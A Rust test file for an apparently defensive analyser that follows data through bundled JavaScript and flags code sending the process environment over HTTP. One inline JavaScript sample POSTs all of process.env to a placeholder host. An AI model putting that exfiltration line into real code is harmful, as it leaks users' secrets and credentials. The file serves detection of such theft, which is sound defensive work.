//! What bundlers pack into one file is followed from module to module.
//!
//! The files in `bundled` are what the tools made of one small program: a module that gathers the environment, one that
//! sends what it is given, one that does both.

use foretaste_javascript::observe;
use foretaste_model::facts::FileFacts;
use foretaste_model::{Capability, Limits};

fn facts(code: &str) -> FileFacts {
    observe("bundle.js", code, &Limits::default())
}

/// The environment is sent by a request.
fn sends_environment(facts: &FileFacts) -> bool {
    facts.flows.iter().any(|flow| {
        let mut steps = flow.steps.iter().map(|s| s.capability);
        steps.clone().any(|c| c == Capability::EnvironmentReadAll)
            && steps.any(|c| c == Capability::NetworkHttp)
    })
}

#[test]
fn every_bundler_s_modules_are_followed() {
    let bundles = [
        ("browserify", include_str!("bundled/browserify.js")),
        ("esbuild", include_str!("bundled/esbuild.js")),
        (
            "esbuild, minified",
            include_str!("bundled/esbuild-minified.js"),
        ),
        (
            "esbuild, modules",
            include_str!("bundled/esbuild-modules.js"),
        ),
        (
            "esbuild, modules, minified",
            include_str!("bundled/esbuild-modules-minified.js"),
        ),
        ("ncc", include_str!("bundled/ncc.js")),
        ("webpack 4", include_str!("bundled/webpack4.js")),
        (
            "webpack 4, minified",
            include_str!("bundled/webpack4-minified.js"),
        ),
        (
            "webpack 4, modules, minified",
            include_str!("bundled/webpack4-modules-minified.js"),
        ),
        ("webpack 5", include_str!("bundled/webpack5.js")),
        (
            "webpack 5, minified",
            include_str!("bundled/webpack5-minified.js"),
        ),
        (
            "webpack 5, modules",
            include_str!("bundled/webpack5-modules.js"),
        ),
        (
            "webpack 5, modules, minified",
            include_str!("bundled/webpack5-modules-minified.js"),
        ),
    ];
    let missed: Vec<&str> = bundles
        .into_iter()
        .filter(|(_, code)| !sends_environment(&facts(code)))
        .map(|(name, _)| name)
        .collect();
    assert!(missed.is_empty(), "{missed:?}");
}

#[test]
fn modules_that_have_nothing_to_do_with_one_another_are_kept_apart() {
    let facts = facts(
        "(() => { var all = {
           1(module) { module.exports = () => ({...process.env}) },
           2(module, exports, require) { const https = require(3);
             exports.ping = (about) => https.request('https://a.invalid/').end(about) },
           3(module) { module.exports = require('https') },
           4(module, exports, require) { const read = require(1); exports.home = () => read().HOME }
         }, cache = {};
         function load(id) { var known = cache[id]; if (known) return known.exports;
           var made = cache[id] = {exports: {}}; all[id](made, made.exports, load); return made.exports }
         console.log(load(4).home()); load(2).ping('here'); })()",
    );
    assert!(!sends_environment(&facts), "{:#?}", facts.flows);
    let functions: Vec<&str> = facts
        .uses
        .iter()
        .filter(|u| u.capability == Capability::NetworkHttp)
        .filter_map(|u| facts.functions.get(u.function as usize))
        .map(|f| &*f.name)
        .collect();
    assert!(functions.contains(&"ping"), "{functions:?}");
}

#[test]
fn classes_without_a_constructor_are_made_like_others() {
    let facts = facts(
        "class Base { constructor() { this.to = 'https://a.invalid/' } }
         class Report extends Base { send(data) { fetch(this.to, {method: 'POST', body: data}) } }
         const kinds = {Report};
         new kinds.Report().send(JSON.stringify(process.env));",
    );
    assert!(sends_environment(&facts), "{:#?}", facts.flows);
}
